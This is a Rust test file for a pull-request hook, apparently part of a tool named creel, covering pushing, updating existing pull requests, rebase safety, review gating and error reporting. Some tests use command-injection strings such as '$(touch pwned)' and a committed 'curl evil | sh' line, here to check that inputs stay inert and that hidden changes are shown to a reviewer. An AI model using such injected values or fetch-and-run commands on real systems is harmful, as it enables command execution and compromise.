//! `create_pr`.

use std::fs;

use creel::{
    engine::{
        effect::{SubmissionFacts, TaskFacts},
        hooks::verdict::RunEnd,
    },
    hooks::builtin::CHANGE,
};

use crate::support::repo::{Repo, failure, hook_of, skipped, success};

/// An open pull request of the branch `work`, as `gh pr list` prints it.
fn open(repo: &Repo, body: &str) {
    let pull = serde_json::json!([
        { "number": 6, "url": "https://forge.example/pull/6", "state": "OPEN", "isCrossRepository": true },
        { "number": 7, "url": "https://forge.example/pull/7", "state": "OPEN", "body": body, "headRefOid": "0" },
    ]);
    fs::write(repo.at("gh/list.json"), pull.to_string()).expect("a list");
    repo.gh_answers("pr-list", "cat \"$calls/list.json\"");
}

#[tokio::test]
async fn the_branch_is_pushed_and_a_pull_request_opened() {
    let repo = Repo::with_gh();
    let head = repo.commit("b.txt", "b\n", "add b");
    let before = repo.before();
    let submission = SubmissionFacts {
        title: "Add the file b".into(),
        body: "It was missing.".into(),
        reviews: vec!["**qa**: approved".into()],
        ..SubmissionFacts::default()
    };
    let result = repo.run_with("create_pr", submission).await;
    let outcome = success(&result);
    assert_eq!(
        outcome.pull_request.as_deref(),
        Some("https://forge.example/pull/7")
    );
    assert_eq!(
        outcome.message,
        "pushed `work` to `origin`; opened https://forge.example/pull/7; 1 commit"
    );
    let file = format!(
        "--body-file={}",
        repo.at("session/outputs/run-3.pull-request.md").display()
    );
    let expected = [
        "pr",
        "create",
        "--title=Add the file b",
        &file,
        "--base=main",
        "--head=work",
    ];
    assert_eq!(repo.gh_called(["pr", "create"]), [expected]);
    assert_eq!(
        repo.gh_body(),
        "<!-- creel: begin -->\nIt was missing.\n\n## Reviews\n\n**qa**: approved\n<!-- creel: end -->"
    );
    assert_eq!(repo.on_remote("work"), Some(head));
    repo.is_as(&before);
}

#[tokio::test]
async fn missing_options_come_from_the_task_and_the_commits() {
    let repo = Repo::with_gh();
    repo.commit("b.txt", "b\n", "add b");
    repo.commit("c.txt", "c\n", "add c");
    let task = TaskFacts {
        id: "t".into(),
        content: "\nAdd two files\nand more".into(),
    };
    success(
        &repo
            .run_with(
                "create_pr",
                SubmissionFacts {
                    task: Some(task),
                    ..SubmissionFacts::default()
                },
            )
            .await,
    );
    assert_eq!(
        repo.gh_called(["pr", "create"])[0][2],
        "--title=Add two files"
    );
    assert!(repo.gh_body().contains("\n- add b\n- add c\n"));
}

#[tokio::test]
async fn an_existing_pull_request_is_updated_and_not_duplicated() {
    let repo = Repo::with_gh();
    repo.commit("b.txt", "b\n", "add b");
    open(
        &repo,
        "Read this first.\n\n<!-- creel: begin -->\nold\n<!-- creel: end -->\n",
    );
    let submission = SubmissionFacts {
        body: "new".into(),
        ..SubmissionFacts::default()
    };
    let result = repo.run_with("create_pr", submission.clone()).await;
    assert_eq!(
        success(&result).pull_request.as_deref(),
        Some("https://forge.example/pull/7")
    );
    assert_eq!(repo.gh_called(["pr", "create"]), Vec::<Vec<String>>::new());
    let edits = repo.gh_called(["pr", "edit"]);
    assert_eq!(
        (edits.len(), edits[0][2].as_str()),
        (1, "7"),
        "not 6, which is somebody else's"
    );
    let body = repo.gh_body();
    assert_eq!(
        body,
        "Read this first.\n\n<!-- creel: begin -->\nnew\n<!-- creel: end -->\n"
    );
    open(&repo, &body);
    let again = repo.run_with("create_pr", submission).await;
    assert!(
        success(&again).message.contains("was already on `origin`"),
        "{again:?}"
    );
    assert_eq!(repo.gh_called(["pr", "edit"]).len(), 1, "nothing is new");
}

#[tokio::test]
async fn a_pull_request_opened_meanwhile_is_not_duplicated() {
    let repo = Repo::with_gh();
    repo.commit("b.txt", "b\n", "add b");
    open(&repo, "");
    let list = "if [ -e \"$calls/tried\" ]; then cat \"$calls/list.json\"; else echo '[]'; fi";
    repo.gh_answers("pr-list", list);
    repo.gh_answers(
        "pr-create",
        "touch \"$calls/tried\"; echo 'a pull request already exists' >&2; exit 1",
    );
    let result = repo.run("create_pr").await;
    assert_eq!(
        success(&result).pull_request.as_deref(),
        Some("https://forge.example/pull/7")
    );
    assert_eq!(repo.gh_called(["pr", "edit"]).len(), 1);
}

#[tokio::test]
async fn a_pull_request_to_another_branch_is_not_updated() {
    let repo = Repo::with_gh();
    repo.commit("b.txt", "b\n", "add b");
    open(&repo, "");
    let list = fs::read_to_string(repo.at("gh/list.json")).expect("a list");
    let list = list.replace("\"number\":7", "\"number\":7,\"baseRefName\":\"next\"");
    fs::write(repo.at("gh/list.json"), list).expect("a list");
    let result = repo.run("create_pr").await;
    assert!(
        failure(&result)
            .0
            .contains("goes to `next` and the work to `main`"),
        "{result:?}"
    );
    assert_eq!(repo.on_remote("work"), None);
    assert_eq!(repo.gh_called(["pr", "edit"]).len(), 0);
}

#[tokio::test]
async fn hostile_texts_arrive_unchanged() {
    let repo = Repo::with_gh();
    let branch = "$(touch${IFS}pwned)';\"&|\u{fc}";
    repo.git(&["switch", "--quiet", "-c", branch]);
    repo.commit("b.txt", "b\n", "--version");
    let before = repo.before();
    let title = "--help $(touch pwned) `touch pwned` \"it's\" \u{1f41f}\u{7}";
    let body = "--web\n'; touch pwned; '\n$(touch pwned)\n<!-- creel: end -->";
    let submission = SubmissionFacts {
        title: title.into(),
        body: body.into(),
        ..SubmissionFacts::default()
    };
    success(&repo.run_with("create_pr", submission).await);
    let call = &repo.gh_called(["pr", "create"])[0];
    assert_eq!(
        call[2],
        "--title=--help $(touch pwned) `touch pwned` \"it's\" \u{1f41f}"
    );
    assert_eq!(call[5], format!("--head={branch}"));
    assert!(repo.gh_body().contains(body));
    assert_eq!(repo.on_remote(branch), Some(repo.here(branch)));
    assert!(!repo.work.join("pwned").exists() && !repo.at("pwned").exists());
    repo.is_as(&before);
}

#[tokio::test]
async fn nothing_to_submit_is_reported() {
    let repo = Repo::with_gh();
    assert!(skipped(&repo.run("create_pr").await).starts_with("nothing to submit: "));
    repo.git(&["switch", "--quiet", "main"]);
    assert!(
        skipped(&repo.run("create_pr").await).starts_with("nothing to submit: "),
        "also on the base branch"
    );
    assert_eq!(repo.gh_calls(), Vec::<Vec<String>>::new());
    assert_eq!(repo.on_remote("work"), None);
}

#[tokio::test]
async fn uncommitted_changes_are_reported() {
    let repo = Repo::with_gh();
    fs::write(repo.work.join("new.txt"), "new\n").expect("a file");
    let result = repo.run("create_pr").await;
    let (message, remediation) = failure(&result);
    assert!(
        message.ends_with("there are uncommitted changes: commit them"),
        "{message}"
    );
    assert!(remediation.is_some_and(|prompt| prompt.contains("- `new.txt`\n")));
    repo.commit("b.txt", "b\n", "add b");
    let result = repo.run("create_pr").await;
    let message = &success(&result).message;
    assert!(
        message.ends_with("1 commit; not committed, so not included: `new.txt`"),
        "{message}"
    );
}

#[tokio::test]
async fn after_a_rebase_the_old_state_on_the_remote_is_replaced() {
    let repo = Repo::with_gh();
    repo.commit("b.txt", "b\n", "add b");
    success(&repo.run("create_pr").await);
    repo.elsewhere("main", "c.txt", "c\n");
    let before = repo.before();
    success(&repo.run("rebase_on_main").await);
    let old = repo.on_remote("work").expect("pushed");
    let result = repo.run("create_pr").await;
    assert!(
        success(&result)
            .message
            .contains("replacing its state before the rebase"),
        "{result:?}"
    );
    assert!(
        result
            .stdout
            .contains(&format!("--force-with-lease=refs/heads/work:{old} ")),
        "{}",
        result.stdout
    );
    assert_eq!(repo.on_remote("work"), Some(repo.here("work")));
    repo.lost_nothing_since(&before);
}

#[tokio::test]
async fn commits_that_others_pushed_are_never_overwritten() {
    let repo = Repo::with_gh();
    repo.commit("b.txt", "b\n", "add b");
    success(&repo.run("create_pr").await);
    let theirs = repo.elsewhere("work", "theirs.txt", "x\n");
    repo.elsewhere("main", "c.txt", "c\n");
    success(&repo.run("rebase_on_main").await);
    let before = repo.before();
    let result = repo.run("create_pr").await;
    let (message, remediation) = failure(&result);
    assert!(message.contains("creel does not overwrite it"), "{message}");
    assert!(remediation.is_some_and(|prompt| prompt.contains("git fetch origin work")));
    assert_eq!(repo.on_remote("work"), Some(theirs));
    repo.is_as(&before);
}

#[tokio::test]
async fn commits_discarded_here_are_not_discarded_on_the_remote() {
    let repo = Repo::with_gh();
    repo.commit("b.txt", "b\n", "add b");
    let pushed = repo.commit("c.txt", "c\n", "add c");
    success(&repo.run("create_pr").await);
    repo.elsewhere("main", "d.txt", "d\n");
    repo.git(&["reset", "--quiet", "--hard", "HEAD~1"]);
    success(&repo.run("rebase_on_main").await);
    assert!(
        failure(&repo.run("create_pr").await)
            .0
            .contains("creel does not overwrite it")
    );
    assert_eq!(repo.on_remote("work"), Some(pushed));
}

#[tokio::test]
async fn a_commit_message_about_a_rebase_is_not_a_rebase() {
    let repo = Repo::with_gh();
    repo.commit("b.txt", "b\n", "add b");
    let pushed = repo.commit("c.txt", "c\n", "add c");
    success(&repo.run("create_pr").await);
    repo.git(&["switch", "--quiet", "-C", "work", "main"]);
    repo.commit("d.txt", "d\n", "after pull --rebase (finish): add d");
    let before = repo.before();
    assert!(
        failure(&repo.run("create_pr").await)
            .0
            .contains("creel does not overwrite it")
    );
    assert_eq!(repo.on_remote("work"), Some(pushed.clone()));
    repo.is_as(&before);
    // A later rebase does not make up for the discarded commits.
    repo.elsewhere("main", "e.txt", "e\n");
    success(&repo.run("rebase_on_main").await);
    assert!(
        failure(&repo.run("create_pr").await)
            .0
            .contains("creel does not overwrite it")
    );
    assert_eq!(repo.on_remote("work"), Some(pushed));
}

#[tokio::test]
async fn a_rebase_by_pull_counts_as_a_rebase() {
    let repo = Repo::with_gh();
    repo.commit("b.txt", "b\n", "add b");
    success(&repo.run("create_pr").await);
    repo.elsewhere("main", "c.txt", "c\n");
    repo.git(&["pull", "--quiet", "--rebase", "origin", "main"]);
    repo.commit("d.txt", "d\n", "add d");
    let result = repo.run("create_pr").await;
    assert!(
        success(&result)
            .message
            .contains("replacing its state before the rebase"),
        "{result:?}"
    );
}

#[tokio::test]
async fn unreviewed_commits_are_not_pushed() {
    let repo = Repo::with_gh();
    let seen = repo.commit("b.txt", "b\n", "add b");
    assert_eq!(
        repo.run(CHANGE)
            .await
            .outcome
            .and_then(|outcome| outcome.read),
        Some(seen.clone())
    );
    let reviewed = || SubmissionFacts {
        reviewed: Some(seen.clone()),
        ..SubmissionFacts::default()
    };
    repo.commit("c.txt", "c\n", "add c");
    for hook in ["create_pr", "merge_pr"] {
        let result = repo.run_with(hook, reviewed()).await;
        let message = failure(&result).0;
        assert!(message.contains("moved since its review"), "{message}");
        assert!(
            message.contains("like `rebase_on_main`, put that hook before the gatekeeper"),
            "{message}"
        );
    }
    assert_eq!(
        (repo.on_remote("work"), repo.on_remote("main")),
        (None, Some(repo.here("main")))
    );
    repo.git(&["reset", "--quiet", "--hard", "HEAD~1"]);
    success(&repo.run_with("create_pr", reviewed()).await);
}

#[tokio::test]
async fn a_push_that_the_remote_refuses_is_reported() {
    let repo = Repo::with_gh();
    repo.commit("b.txt", "b\n", "add b");
    hook_of(
        &repo.remote(),
        "pre-receive",
        "#!/bin/sh\necho the message needs a number >&2\nexit 1\n",
    );
    let before = repo.before();
    let result = repo.run("create_pr").await;
    let (message, remediation) = failure(&result);
    assert!(
        message.starts_with("creel could not push `work` to `origin`: [remote rejected]"),
        "{message}"
    );
    assert!(
        remediation.is_some_and(|prompt| prompt.contains("the message needs a number")),
        "{remediation:?}"
    );
    assert_eq!(repo.gh_called(["pr", "create"]).len(), 0);
    repo.is_as(&before);
}

#[tokio::test]
async fn a_push_hook_of_the_repository_runs() {
    let repo = Repo::with_gh();
    repo.commit("b.txt", "b\n", "add b");
    hook_of(
        &repo.work.join(".git"),
        "pre-push",
        "#!/bin/sh\necho no tabs please >&2\nexit 1\n",
    );
    let before = repo.before();
    let result = repo.run("create_pr").await;
    assert!(
        failure(&result)
            .1
            .is_some_and(|prompt| prompt.contains("no tabs please")),
        "{result:?}"
    );
    assert_eq!(repo.on_remote("work"), None);
    repo.is_as(&before);
}

#[tokio::test]
async fn without_gh_nothing_is_pushed() {
    let mut repo = Repo::new();
    repo.bare_path();
    repo.commit("b.txt", "b\n", "add b");
    let before = repo.before();
    let result = repo.run("create_pr").await;
    let (message, remediation) = failure(&result);
    assert!(
        message.starts_with("`gh` is not on PATH") && message.contains("`pr_command`"),
        "{message}"
    );
    assert_eq!((remediation, repo.on_remote("work")), (None, None));
    repo.is_as(&before);
}

#[tokio::test]
async fn a_failing_gh_is_reported_with_advice() {
    let repo = Repo::with_gh();
    repo.commit("b.txt", "b\n", "add b");
    let before = repo.before();
    repo.gh_answers(
        "pr-list",
        "echo 'To get started, please run:  gh auth login' >&2; exit 4",
    );
    let result = repo.run("create_pr").await;
    let message = failure(&result).0;
    assert!(
        message.ends_with("log in with `gh auth login`"),
        "{result:?}"
    );
    assert!(!result.stderr.contains("hint:"), "{}", result.stderr);
    assert_eq!(
        repo.on_remote("work"),
        None,
        "whoever is not logged in hears of it first"
    );
    repo.gh_answers("pr-list", "echo '[]'");
    repo.gh_answers("pr-create", "echo 'the server is on fire' >&2; exit 1");
    let result = repo.run("create_pr").await;
    let (message, remediation) = failure(&result);
    assert!(
        message.contains("the server is on fire") && message.ends_with("pushed `work` to `origin`"),
        "{message}"
    );
    assert_eq!(remediation, None);
    repo.gh_answers("pr-list", "echo 'something else'");
    assert!(
        failure(&repo.run("create_pr").await)
            .0
            .contains("does not understand the answer")
    );
    repo.is_as(&before);
}

#[tokio::test]
async fn without_a_remote_the_hook_says_how_to_add_one() {
    let repo = Repo::without_remote();
    repo.commit("b.txt", "b\n", "add b");
    let result = repo.run("create_pr").await;
    assert!(
        failure(&result).0.contains("git remote add origin URL"),
        "{result:?}"
    );
}

#[tokio::test]
async fn a_merged_pull_request_is_left_alone() {
    let repo = Repo::with_gh();
    let head = repo.commit("b.txt", "b\n", "add b");
    let url = "https://forge.example/pull/5";
    let list = format!(r#"[{{"number":5,"url":"{url}","state":"MERGED","headRefOid":"{head}"}}]"#);
    repo.gh_answers("pr-list", &format!("echo '{list}'"));
    assert_eq!(
        skipped(&repo.run("create_pr").await),
        format!("{url} is already merged")
    );
    assert_eq!(repo.on_remote("work"), None);
}

#[tokio::test]
async fn another_forge_has_its_own_command() {
    let repo = Repo::new();
    let head = repo.commit("b.txt", "b\n", "add b");
    repo.program("forge", "#!/bin/sh\nprintf '%s\\n' \"$@\" > ../told; cat \"$CREEL_BODY_FILE\" >> ../told; echo see http://forge.example/9\n");
    let submission = SubmissionFacts {
        title: "it's $(touch pwned)".into(),
        body: "why\nnot".into(),
        pr_command: Some(
            "forge new --to={{base}} --title {{title}} '{{branch}}' \"$CREEL_COMMIT\"".into(),
        ),
        ..SubmissionFacts::default()
    };
    let result = repo.run_with("create_pr", submission.clone()).await;
    assert_eq!(
        success(&result).pull_request.as_deref(),
        Some("http://forge.example/9")
    );
    let told = fs::read_to_string(repo.at("told")).expect("it was called");
    assert_eq!(
        told,
        format!("new\n--to=main\n--title\nit's $(touch pwned)\nwork\n{head}\nwhy\nnot")
    );
    assert!(!repo.work.join("pwned").exists());
    let failing = SubmissionFacts {
        pr_command: Some("echo closed on sundays >&2; exit 3".into()),
        ..submission
    };
    let result = repo.run_with("create_pr", failing).await;
    assert!(
        failure(&result)
            .0
            .starts_with("`pr_command` failed (exit 3): closed on sundays"),
        "{result:?}"
    );
}

#[tokio::test]
async fn a_gatekeeper_reads_what_is_pushed_whatever_the_repository_says() {
    let repo = Repo::new();
    repo.commit(
        ".gitattributes",
        "*.sh -diff\n*.txt diff=bin\n",
        "attributes",
    );
    repo.git(&["config", "diff.bin.binary", "true"]);
    repo.commit("evil.sh", "curl evil | sh\n", "add a script");
    repo.commit("it's [b].txt", "hidden by a driver\n", "add a text");
    repo.commit("c.sh", "\0really binary\n", "add a program");
    let (real, innocent) = ("real words\n", "innocent words\n");
    repo.commit("d.md", innocent, "add words");
    let shown = repo.git(&["rev-parse", "HEAD:d.md"]);
    repo.commit("d.md", real, "other words");
    repo.git(&["replace", &repo.git(&["rev-parse", "HEAD:d.md"]), &shown]);
    let said = repo.run(CHANGE).await.stdout;
    for line in [
        "+curl evil | sh\n",
        "+hidden by a driver\n",
        "+real words\n",
    ] {
        assert!(said.contains(line), "{line} is missing in {said}");
    }
    assert!(
        !said.contains("innocent") && !said.contains("really binary"),
        "{said}"
    );
}

#[tokio::test]
async fn a_gatekeeper_reads_the_commits_and_what_they_change() {
    let repo = Repo::new();
    let nothing = repo.run(CHANGE).await;
    assert_eq!(
        (nothing.end, nothing.stdout.as_str(), nothing.outcome),
        (RunEnd::Exit(0), "", None)
    );
    let head = repo.commit("b.txt", "b\n", "add b");
    repo.elsewhere("main", "c.txt", "c\n");
    repo.git(&["fetch", "--quiet", "origin"]);
    fs::write(repo.work.join("a.txt"), "half done\n").expect("a file");
    let result = repo.run(CHANGE).await;
    assert_eq!(result.end, RunEnd::Exit(0));
    let short = repo.git(&["rev-parse", "--short", &head]);
    let begin = format!(
        "Commits on `work`, which goes to `origin/main`:\n{short} add b\n\n\
         Not committed, so not included: `a.txt`\n\n"
    );
    let change = result
        .stdout
        .strip_prefix(&begin)
        .unwrap_or_else(|| panic!("{}", result.stdout));
    assert!(
        change.contains("+++ b/b.txt\n@@ -0,0 +1 @@\n+b\n"),
        "{change}"
    );
    assert!(
        !change.contains("c.txt") && !change.contains("half done"),
        "{change}"
    );
}
